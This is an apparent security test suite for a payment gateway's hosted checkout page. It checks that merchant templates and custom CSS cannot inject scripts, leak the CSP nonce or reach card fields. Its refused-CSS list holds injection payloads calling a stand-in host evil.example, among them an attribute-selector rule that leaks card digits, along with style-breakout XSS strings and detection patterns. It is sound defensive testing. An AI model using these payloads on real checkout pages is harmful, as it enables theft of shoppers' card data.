import assert from 'node:assert/strict';
import request from 'supertest';
import { Parser } from 'htmlparser2';
import { TestGateway, startTestGateway } from '../support/test-gateway';
import { MerchantClient } from '../support/merchant-client';
import { pageTokenOf } from '../support/hosted-page';
import { merchantAgent } from '../support/web-session';
import { carriesCard, storeBrandingBehindTheChecks, xssCorpus } from '../support/xss-probe';

/** Elements of a page as a parser reads them: name, attributes and whether the element has text inside. */
interface Element {
  readonly name: string;
  readonly attributes: Record<string, string>;
  text: string;
}

function elementsOf(html: string): Element[] {
  const elements: Element[] = [];
  const open: Element[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        const element = { name, attributes, text: '' };
        elements.push(element);
        open.push(element);
      },
      ontext(text) {
        const current = open.at(-1);
        if (current !== undefined) current.text += text;
      },
      onclosetag() {
        open.pop();
      },
    },
    { lowerCaseTags: true, lowerCaseAttributeNames: true, decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  return elements;
}

/**
 * What a page holding merchant markup may contain and nothing more: the gateway's
 * own script file (nonce'd, no inline code), the gateway's stylesheet and nonce'd
 * style, the island's frame, and no handler attributes, script URLs, forms, fields,
 * frames, objects or base anywhere.
 */
function activeContentIn(html: string, nonce: string): string[] {
  const found: string[] = [];
  for (const e of elementsOf(html)) {
    const a = e.attributes;
    if (e.name === 'script' && !(a.src?.startsWith('/pay/assets/') && a.nonce === nonce && e.text.trim() === ''))
      found.push(`<script ${JSON.stringify(a)}>${e.text.slice(0, 60)}`);
    if (['form', 'input', 'button', 'textarea', 'select', 'object', 'embed', 'base', 'frame', 'frameset', 'svg', 'math', 'applet'].includes(e.name))
      found.push(`<${e.name}>`);
    if (e.name === 'iframe' && !(a.id === 'payment-island' && /^\/pay\/[0-9A-Za-z]{32}\/fields/.test(a.src ?? ''))) found.push(`<iframe src=${a.src ?? ''}>`);
    if (e.name === 'meta' && a['http-equiv'] !== undefined) found.push(`<meta http-equiv=${a['http-equiv']}>`);
    if (e.name === 'link' && a.href !== '/pay/assets/theme.css') found.push(`<link href=${a.href ?? ''}>`);
    if (e.name === 'style' && (a.nonce !== nonce || /@import|url\(\s*['"]?\s*(javascript|data:text)|expression\(|<\/?style/i.test(e.text)))
      found.push(`<style>${e.text.slice(0, 60)}`);
    for (const [name, value] of Object.entries(a)) {
      if (/^on/.test(name)) found.push(`${e.name}[${name}]`);
      if (
        ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'dynsrc', 'lowsrc', 'poster'].includes(name) &&
        /^\s*(javascript|vbscript|livescript|mocha):|^\s*data:(?!image\/(png|gif|jpeg|webp|avif);base64,)/i.test(value.replace(/[\u0000-\u0020]/g, ''))
      )
        found.push(`${e.name}[${name}=${value.slice(0, 40)}]`);
      if (name === 'srcdoc') found.push(`${e.name}[srcdoc]`);
      if (name === 'style' && /url\(|expression|behavior|binding/i.test(value)) found.push(`${e.name}[style=${value.slice(0, 40)}]`);
      if (nonce !== '' && value.includes(nonce) && name !== 'nonce') found.push(`the nonce in ${e.name}[${name}]`);
    }
    if (nonce !== '' && e.text.includes(nonce)) found.push(`the nonce in the text of <${e.name}>`);
  }
  return found;
}

function nonceOf(res: request.Response): string {
  return /script-src 'nonce-([^']+)'/.exec(String(res.headers['content-security-policy']))?.[1] ?? '';
}

describe('security 1: merchant templates, custom CSS and the card island (HTTP)', function () {
  this.timeout(60_000);
  let t: TestGateway;
  let merchantId: string;
  let shop: MerchantClient;
  const put = (body: object) => request(t.gateway.app).put('/v1/branding').set('Authorization', `Bearer ${shop.key}`).send(body);
  const newPage = async () => `/pay/${pageTokenOf(String((await shop.createPayment({ return_url: 'https://shop.example/return' })).payment_url))}`;

  before(async () => {
    t = await startTestGateway({ env: { TENDER_PAGE_SUBMITS_PER_IP_PER_MINUTE: '10000' } });
    const m = await t.createMerchant('Markup Shop');
    merchantId = m.id;
    shop = new MerchantClient(t.gateway.app, m.key);
  });
  after(() => t.close());
  afterEach(async () => {
    await put({ template: null, custom_css: null, logo_url: null });
  });

  it('never gives a merchant template the CSP nonce', async () => {
    await put({ template: '<main><p id="leak">[{{nonce}}][{{form.token}}][{{form.action}}][{{@root.nonce}}]</p>{{> card_form}}</main>' }).expect(200);
    const res = await request(t.gateway.app)
      .get(await newPage())
      .expect(200);
    const leak = elementsOf(res.text).find((e) => e.attributes.id === 'leak');
    assert.equal(leak?.text, '[][][][]', 'the template read nothing of the page internals');
    assert.deepEqual(activeContentIn(res.text, nonceOf(res)), []);
  });

  it('keeps every Handlebars-split, slash-separated or nonce-carrying template out of the page (38 bypass variants)', async () => {
    const bypasses = xssCorpus().filter((v) => v.source === 'tender-template-bypasses.txt');
    assert.equal(bypasses.length, 38);
    const leaks: string[] = [];
    let refused = 0;
    for (const v of bypasses) {
      const res = await put({ template: `<main class="page">\n${v.text}\n{{> card_form}}\n</main>` });
      if (res.status === 400) {
        assert.equal(res.body.error.code, 'template_invalid');
        refused++;
        continue;
      }
      assert.equal(res.status, 200, JSON.stringify(res.body));
      const page = await request(t.gateway.app)
        .get(await newPage())
        .expect(200);
      for (const f of activeContentIn(page.text, nonceOf(page))) leaks.push(`line ${v.line}: ${f}`);
    }
    assert.deepEqual(leaks, [], `${leaks.length} active things reached the page`);
    // Only the https image and the plain link targets are allowed in a template; the rest is refused with a reason.
    assert.ok(refused >= 34, `refused ${refused} of 38`);
  });

  it('sanitises a stored template when it renders, whatever got past the checks', async () => {
    const vectors = xssCorpus();
    const leaks: string[] = [];
    // Many vectors per stored template: each in its own section, each section closed by the sanitiser's own parse.
    for (let i = 0; i < vectors.length; i += 25) {
      const batch = vectors.slice(i, i + 25);
      const body = batch.map((v) => `<section>${v.text.replace(/\{\{(?![!>#/]|nonce|@)/g, '{ {')}</section>`).join('\n');
      await storeBrandingBehindTheChecks(t.gateway.db, merchantId, { template: `<main class="page">${body}{{> card_form}}</main>` });
      const page = await request(t.gateway.app)
        .get(await newPage())
        .expect(200);
      for (const f of activeContentIn(page.text, nonceOf(page))) leaks.push(`vectors ${i}-${i + batch.length - 1}: ${f}`);
      if (!elementsOf(page.text).some((e) => e.name === 'iframe' && e.attributes.id === 'payment-island'))
        leaks.push(`vectors ${i}-${i + batch.length - 1}: the island is gone`);
    }
    // An unclosed quote or element before {{> card_form}} cannot take the card form off the page either.
    await storeBrandingBehindTheChecks(t.gateway.db, merchantId, { template: `<main class="page"><p title='{{> card_form}}</main>` });
    const swallowed = await request(t.gateway.app)
      .get(await newPage())
      .expect(200);
    assert.ok(
      elementsOf(swallowed.text).some((e) => e.name === 'iframe' && e.attributes.id === 'payment-island'),
      'the island survives an unclosed attribute',
    );
    assert.deepEqual(leaks, []);
  });

  it('shows the card fields only in the island, a document of its own with a CSP that lets nothing out', async () => {
    const res = await request(t.gateway.app)
      .get(await newPage())
      .expect(200);
    const page = elementsOf(res.text);
    assert.deepEqual(
      page.filter((e) => ['form', 'input'].includes(e.name)).map((e) => e.attributes.name ?? e.name),
      [],
      'no form or field in the page',
    );
    const frame = page.find((e) => e.name === 'iframe' && e.attributes.id === 'payment-island');
    assert.ok(frame !== undefined, 'the page frames the island');
    const island = await request(t.gateway.app)
      .get(frame.attributes.src ?? '')
      .expect(200);
    assert.deepEqual(
      elementsOf(island.text)
        .filter((e) => e.name === 'input')
        .map((e) => e.attributes.name),
      ['form_token', 'number', 'expiry', 'cvc', 'holder_name'],
    );
    const csp = String(island.headers['content-security-policy']);
    for (const directive of ["default-src 'none'", "img-src 'self';", "connect-src 'none'", "form-action 'self'", "frame-ancestors 'self'", "base-uri 'none'"])
      assert.ok(csp.includes(directive), `${directive} in ${csp}`);
    assert.match(csp, /script-src 'nonce-[^' ]+';/);
    assert.doesNotMatch(csp, /https:|data:|unsafe/);
    assert.doesNotMatch(String(res.headers['content-security-policy']), /unsafe|script-src[^;]*https:/);
  });

  it("takes the island's sealed error state only for its own payment and never with card data in it", async () => {
    const first = await newPage();
    const other = await newPage();
    const res = await request(t.gateway.app)
      .post(first)
      .type('form')
      .send({ form_token: 'x'.repeat(76), number: '4242424242424241', expiry: '12/40', cvc: '7319', holder_name: 'Ann Buyer' });
    // A forged form token is sent back to the page (303); a real one with a bad number gets the 422 with the sealed state.
    const island = await request(t.gateway.app).get(`${first}/fields`).expect(200);
    const token = /name="form_token" value="([0-9a-f]{76})"/.exec(island.text)?.[1] ?? '';
    assert.equal(res.status, 303);
    const refused = await request(t.gateway.app)
      .post(first)
      .type('form')
      .send({ form_token: token, number: '4242424242424241', expiry: '12/40', cvc: '7319', holder_name: 'Ann Buyer' })
      .expect(422);
    const src = (/id="payment-island" src="([^"]+)"/.exec(refused.text)?.[1] ?? '').replace(/&amp;/g, '&').replace(/&#x3D;/g, '=');
    assert.match(src, /\/fields\?state=[A-Za-z0-9_-]+$/);
    assert.doesNotMatch(src, /4242|7319|Ann/);
    const shown = await request(t.gateway.app).get(src).expect(200);
    assert.match(shown.text, /value="Ann Buyer"/);
    assert.match(shown.text, /id="card-number-error" aria-live="polite">Enter a valid card number/);
    // The same state on another payment's island, or altered, shows a clean form.
    const state = src.split('state=')[1] ?? '';
    for (const url of [`${other}/fields?state=${state}`, `${first}/fields?state=${state.slice(0, -2)}AA`]) {
      const clean = await request(t.gateway.app).get(url).expect(200);
      assert.doesNotMatch(clean.text, /value="Ann Buyer"|aria-live="polite">Enter a valid card number/);
    }
  });

  it('parses custom CSS: https images in backgrounds and media queries pass; imports, escapes, attribute selectors and other URLs do not', async () => {
    for (const css of [
      '.page { background: url(https://cdn.shop.example/bg.png) no-repeat; }',
      '@media (min-width: 600px) { .page { padding: 40px } }',
      '.order-description:hover { opacity: 0.9; color: rgb(10 20 30) }',
    ]) {
      const res = await put({ custom_css: css });
      assert.equal(res.status, 200, `${css}: ${JSON.stringify(res.body)}`);
    }
    const refused = [
      '@import url(https://evil.example/x.css);',
      '@imp\\ort "https://evil.example/x.css";',
      '@font-face { font-family: x; src: url(https://evil.example/f.woff) }',
      'a { background: url(javascript:alert(1)) }',
      'a { background: url("data:text/html,<script>alert(1)</script>") }',
      'a { background-image: url(http://evil.example/t.gif) }',
      'a { list-style-image: url(https://evil.example/t.gif) }',
      'a { b\\61 ckground: url(https://evil.example/t.gif) }',
      'a { background: \\75 rl(https://evil.example/t.gif) }',
      'input[value^="4"] ~ button { background: url(https://evil.example/4.gif) }',
      'a:has(input) { color: red }',
      'a { --leak: url(https://evil.example/x); background: var(--leak) }',
      'a { width: expression(alert(1)) }',
      'a { behavior: url(x.htc) }',
      'a { -moz-binding: url(https://evil.example/x.xml#x) }',
      'a { position: fixed; inset: 0 }',
      '</style><script>alert(1)</script>',
      'a { content: "</style><script>alert(1)</script>" }',
    ];
    const accepted: string[] = [];
    for (const css of refused) {
      const res = await put({ custom_css: css });
      if (res.status !== 400 || res.body.error.code !== 'custom_css_invalid') accepted.push(css);
    }
    assert.deepEqual(accepted, []);
  });

  it('drops what is not allowed from stored CSS when it renders, so nothing leaves the <style>', async () => {
    await storeBrandingBehindTheChecks(t.gateway.db, merchantId, {
      customCss:
        '.a { color: red }\n</style><script>alert(1)</script><style>\n@import "https://evil.example/x.css";\ninput[value^="4"] { background: url(https://evil.example/4.gif) }',
    });
    const res = await request(t.gateway.app)
      .get(await newPage())
      .expect(200);
    assert.deepEqual(activeContentIn(res.text, nonceOf(res)), []);
    const style = elementsOf(res.text).find((e) => e.name === 'style');
    assert.doesNotMatch(style?.text ?? '', /evil\.example|import|value/);
  });

  it('frames the dashboard preview in <iframe sandbox> and serves it with a sandbox CSP and no script', async () => {
    const web = await merchantAgent(t, { merchantId });
    const editor = await web.agent.get('/dashboard/branding').expect(200);
    const frames = elementsOf(editor.text).filter((e) => e.name === 'iframe');
    assert.equal(frames.length, 2);
    for (const f of frames) assert.equal(f.attributes.sandbox, '', `sandbox on ${f.attributes.id}`);
    const frame = await web.agent.get('/dashboard/branding/frame').expect(200);
    const csp = String(frame.headers['content-security-policy']);
    assert.match(csp, /(^|;)\s*sandbox\s*(;|$)/);
    assert.match(csp, /script-src 'none'/);
    assert.match(csp, /form-action 'none'/);
    const api = await request(t.gateway.app).post('/v1/branding/preview').set('Authorization', `Bearer ${shop.key}`).send({}).expect(200);
    assert.match(String(api.headers['content-security-policy']), /(^|;)\s*sandbox\s*(;|$)/);
    assert.match(String(api.headers['content-security-policy']), /script-src 'none'/);
  });

  it("the browser spec's leak detector: card values in any form, not four digits inside the gateway's own base-36 tokens", () => {
    const card = { number: '4111111111111111', expiry: '12/29', cvc: '7319' };
    for (const leak of ['x=4111%201111%201111%201111', 'p=411111111111', 'exp=1229&y=1', 'c=12297319', '{"cvc":"7319"}', 'q=7319'])
      assert.equal(carriesCard(leak, card), true, leak);
    // The branding editor's cache-buster is Date.now() in base 36; a CI run's once read mxd1229k.
    for (const clean of ['/dashboard/branding/frame?v=mxd1229k', '/x?v=a7319b', '/pay/abc?n=17319000']) assert.equal(carriesCard(clean, card), false, clean);
  });
});
